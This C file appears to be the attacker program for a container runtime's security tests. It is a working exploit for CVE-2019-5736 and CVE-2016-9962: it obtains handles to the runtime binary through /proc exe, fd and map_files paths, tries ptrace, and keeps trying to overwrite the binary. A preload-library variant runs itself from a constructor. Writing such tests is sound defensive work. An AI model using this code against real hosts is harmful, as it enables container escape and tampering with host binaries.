/* SPDX-License-Identifier: Apache-2.0 OR MIT */

/* The attacker of tests/e2e/test_security.py: gets hold of a runtime's binary from inside a
 * container (CVE-2019-5736) and tries to overwrite it, again and again, also when nobody runs it any
 * more.
 *
 *     thief fd N          the handle is descriptor N, however it was come by
 *     thief pid N         tries to look into that process (CVE-2016-9962), and keeps handles on its
 *                         executable and on the same file among its map_files
 *
 * Each outcome is printed once:
 *
 *     handle exe|map_files|fd PATH    a handle was got
 *     exe|root|fd|ptrace ok|ERRNO     what became of looking into the process
 *     write ERRNO              an open for writing was refused
 *     WROTE                    … was not, and the file begins with "STOLEN" now
 *
 * Runs until it is killed. As a library (-DTHIEF_PRELOAD -shared) its constructor opens
 * /proc/self/exe and executes /zoo/thief with that. */

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#ifdef THIEF_PRELOAD

__attribute__((constructor)) static void steal(void)
{
    char number[16];
    int fd = open("/proc/self/exe", O_PATH);

    (void)snprintf(number, sizeof(number), "%d", fd);
    (void)execl("/zoo/thief", "thief", "fd", number, NULL);
    _exit(99);
}

#else

#define MAX 256

static char said[MAX][512];
static int n_said;
static int handles[MAX];
static int n_handles;

__attribute__((format(printf, 1, 2))) static void say(const char *fmt, ...)
{
    char text[512];
    va_list ap;

    va_start(ap, fmt);
    (void)vsnprintf(text, sizeof(text), fmt, ap);
    va_end(ap);
    for (int i = 0; i < n_said; i++)
        if (strcmp(said[i], text) == 0)
            return;
    if (n_said < MAX)
        strcpy(said[n_said++], text);
    puts(text);
    (void)fflush(stdout);
}

static void say_outcome(const char *what, int r)
{
    say("%s %s", what, r >= 0 ? "ok" : strerrorname_np(errno));
}

static void try_write(const char *path)
{
    static const int ways[] = {O_WRONLY, O_RDWR, O_RDWR | O_TRUNC, O_WRONLY | O_APPEND};

    for (size_t i = 0; i < sizeof(ways) / sizeof(ways[0]); i++) {
        int fd = open(path, ways[i] | O_CLOEXEC);
        if (fd < 0) {
            say("write %s", strerrorname_np(errno));
            continue;
        }
        if (pwrite(fd, "STOLEN", 6, 0) == 6)
            say("WROTE");
        (void)close(fd);
    }
}

static void try_handles(void)
{
    char path[64];

    for (int i = 0; i < n_handles; i++) {
        (void)snprintf(path, sizeof(path), "/proc/self/fd/%d", handles[i]);
        try_write(path);
    }
}

static void keep(int fd, const char *from)
{
    char link[64], target[400] = "?";

    (void)snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
    (void)!readlink(link, target, sizeof(target) - 1);
    say("handle %s %s", from, target);
    if (n_handles < MAX)
        handles[n_handles++] = fd;
}

static void look_at_maps(int pid, const struct stat *exe)
{
    char dir[64], path[400];
    struct stat st;
    (void)snprintf(dir, sizeof(dir), "/proc/%d/map_files", pid);
    DIR *d = opendir(dir);

    for (struct dirent *de; d && (de = readdir(d));) {
        (void)snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
        if (stat(path, &st) < 0 || st.st_dev != exe->st_dev || st.st_ino != exe->st_ino)
            continue;
        try_write(path);
        int fd = open(path, O_PATH | O_CLOEXEC);
        if (fd >= 0)
            keep(fd, "map_files");
        break;
    }
    if (d)
        (void)closedir(d);
}

static void look_into(int pid)
{
    char path[64];
    struct stat st;

    (void)snprintf(path, sizeof(path), "/proc/%d/root", pid);
    int fd = open(path, O_PATH | O_CLOEXEC);
    say_outcome("root", fd);
    if (fd >= 0)
        (void)close(fd);
    (void)snprintf(path, sizeof(path), "/proc/%d/fd/0", pid);
    fd = open(path, O_PATH | O_CLOEXEC);
    say_outcome("fd", fd);
    if (fd >= 0)
        (void)close(fd);

    int r = (int)ptrace(PTRACE_SEIZE, pid, NULL, NULL);
    say_outcome("ptrace", r);
    if (r == 0 && ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0) {
        (void)waitpid(pid, NULL, __WALL);
        (void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
    }

    (void)snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    fd = open(path, O_PATH | O_CLOEXEC);
    say_outcome("exe", fd);
    if (fd < 0)
        return;
    keep(fd, "exe");
    try_write(path);
    if (fstat(fd, &st) == 0)
        look_at_maps(pid, &st);
}

int main(int argc, char **argv)
{
    if (argc < 3)
        return 2;
    if (strcmp(argv[1], "fd") == 0)
        keep(atoi(argv[2]), "fd");
    else
        look_into(atoi(argv[2]));
    say("ready");
    for (;;) {
        try_handles();
        (void)usleep(3000);
    }
}

#endif
